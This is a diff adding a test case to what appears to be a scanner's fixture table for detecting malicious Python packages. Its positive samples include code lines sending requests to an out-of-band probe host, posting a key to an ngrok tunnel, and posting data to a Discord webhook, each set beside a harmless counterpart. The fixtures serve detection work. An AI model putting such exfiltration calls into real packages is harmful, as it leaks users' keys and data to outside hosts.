@@ -85,6 +85,9 @@ CASES = [
     ("STATIC-DEP-CONFUSION-PROBE",
      (P, "pkg", sdist("pkg", setup_py('import requests\nrequests.get("http://x1y2z3.oastify.com/p")'))),
      (P, "pkg", sdist("pkg", setup_py('URL = "https://webhooks.example.com/site"')))),
+    ("STATIC-DEP-CONFUSION-PROBE",  # ngrok's newer free domain (hexdecli-style key upload)
+     (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://a-b-c.ngrok-free.dev/tron", [key])'))),
+     (P, "pkg", sdist("pkg", module('TUNNEL_DOCS = "https://ngrok.com/docs/getting-started"')))),
     ("STATIC-WEBHOOK-EXFIL",
      (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://discord.com/api/webhooks/123456/abcdef", json=d)'))),
      (P, "pkg", sdist("pkg", module('DOCS = "https://discord.com/developers/docs/resources/webhook"')))),
